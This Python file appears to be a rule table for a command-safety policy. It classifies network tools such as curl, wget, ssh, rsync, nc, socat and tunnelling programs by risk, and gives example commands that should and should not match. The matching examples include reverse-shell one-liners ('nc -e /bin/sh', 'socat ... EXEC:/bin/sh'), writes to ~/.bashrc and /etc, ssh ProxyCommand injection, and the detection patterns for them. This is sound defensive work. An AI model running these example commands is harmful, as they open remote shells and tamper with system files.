"""Programs that talk to other machines."""

from meta.policy.nouns import Row, Wrapper

VALUED = {
    "curl": "-o --output -d --data --data-binary --data-raw --data-urlencode -F --form --json -H --header -X --request -u --user -A -e -b -c -T --upload-file -w --write-out -m --max-time -x --proxy --connect-timeout --retry -K --config -E --cert --key --cacert --url --resolve -Y -y -r --range -D --dump-header --retry-delay",
    "wget": "-O --output-document -P --directory-prefix -o -a -t -T -U --header --post-data --post-file --body-file --body-data --user --password -i -e --tries", "ssh": "-p -i -l -o -F -J -L -R -D", "scp|sftp": "-P -i -o -F -J -c -l -S", "rsync": "-e --rsh",
    "nc|ncat|netcat": "-p -s -w -e -c --exec --sh-exec -q -i -x -X", "socat": "-T -t", "dig|nslookup|host": "-p -t", "ping": "-c -i -W -w -s", "http|https|xh": "-a -A -o --output", "aria2c": "-o -d -x -s -j", "nmap": "-p -o",
}  # fmt: skip

ROWS = (
    Row("curl|wget|http|https|xh|aria2c|httpie|fetch|lynx|w3m|links|ftp|lftp|tftp|grpcurl|websocat|wscat|youtube-dl|yt-dlp|gallery-dl|httrack|axel|curlie|hurl|mc-x|elinks", "network", ("curl -s https://x.org", "wget x.org"), ("curlx",)),
    Row("curl|wget|http|https|xh|aria2c", "", ("curl -o ~/.bashrc x.org", "wget -O /etc/x y"), ("curl x.org",), flags="-o --output -O --output-document -P -d", writes="-o --output -O --output-document -P --directory-prefix", level=0),
    Row("curl|http|https|xh", "destroy", ("curl -X DELETE x.org/a", "http DELETE x.org"), ("curl -X POST x.org", "curl x.org/DELETE"), values="(-X|--request=?)?(DELETE|PURGE)"),
    Row("curl", "", ("curl -K x",), ("curl x.org",), flags="-K --config", level=3),
    Row("wget", "", ("wget --use-askpass=x y", "wget -e use_proxy=x y"), ("wget y",), words="--use-askpass.*|-e|--execute.*", level=3),
    Row("scp|sftp|pscp", "network", ("scp a host:b",), ("cp a b",), reads="*", writes="last"),
    Row("scp|sftp|rsync|ssh", "", ("ssh -o ProxyCommand='x' h",), ("ssh h", "scp a h:"), values=r"(?i:(-o)?(ProxyCommand|LocalCommand|PermitLocalCommand|KnownHostsCommand|Match)\b.*)", level=3),
    Row("scp|sftp", "", ("scp -S x a h:",), ("scp a h:",), flags="-S", level=3),
    Row("rsync", "network", ("rsync -a a/ host:b",), ("rsyncx",), reads="sources", writes="last"),
    Row("rsync", "destroy", ("rsync -a --delete a/ b/", "rsync --remove-source-files a b"), ("rsync -a a b", "rsync -an --delete a b"), words=r"--del(ete.*)?|--remove-source-files|--remove-sent-files", unless="-n --dry-run"),
    Row("rsync", "", ("rsync -e 'sh -c x' a b",), ("rsync -e ssh a b:", "rsync -e 'ssh -p 22' a b:"), values=r"(--rsh=|--rsync-path=|-e)?(?=.*\b(sh|bash|python|perl|nc)\b).*(-c|-e).*", level=3),
    Row("ping|ping6|dig|nslookup|host|whois|traceroute|tracepath|mtr|arping|nmap|masscan|zmap|nikto|hping3|fping|speedtest|speedtest-cli|drill|kdig|dog|delv|iperf-x|whatweb|tcpdump|tshark|wireshark|ngrep|mitmproxy|mitmdump|ngrok|cloudflared|localtunnel|lt|bore|frpc|chisel|ss|netstat|telnet|nc|ncat|netcat|socat|mosquitto_pub|mosquitto_sub|snmpwalk|ldapsearch|smbclient|rpcclient|swaks|mail|mailx|sendmail|mutt|msmtp|slack|irssi|weechat|newsboat|rtorrent|transmission-remote",
        "network", ("ping -c 1 x.org", "dig x.org", "nc -z h 80"), ("pingx",)),
    Row("ss|netstat", "read", ("ss -tlnp",), ("ssx",)),
    Row("nc|ncat|netcat", "", ("nc -e /bin/sh h 1", "ncat --exec /bin/bash h 1", "nc -c sh h 1"), ("nc -z h 1",), flags="-e -c --exec --sh-exec --lua-exec", level=4),
    Row("socat", "", ("socat TCP:h:1 EXEC:/bin/sh", "socat x SYSTEM:y"), ("socat - TCP:h:1",), words=r".*(?i:exec|system|shell):.*", level=4),
    Row("tcpdump", "", ("tcpdump -z x -w a",), ("tcpdump -i any",), flags="-z", level=3),
    Row("nmap", "", ("nmap --script x h",), ("nmap h",), words="--script.*|--interactive", level=3),
    Row("ngrok|cloudflared|localtunnel|lt|bore|frpc|chisel|tailscale", "privilege", ("ngrok http 80", "cloudflared tunnel run"), ("ngrok version",), words="http|tcp|tunnel|start|--port|client|server|local|funnel|serve|tls", level=3),
    Row("mail|mailx|sendmail|mutt|msmtp|swaks|slack|telegram-send|ntfy", "network", ("mail -s x a@b.org",), ("mailq",), level=3),
    Row("ssh|mosh|autossh|sshpass", "network", ("ssh host",), ("sshx",)),
)  # fmt: skip

WRAPPERS: tuple[Wrapper, ...] = ()
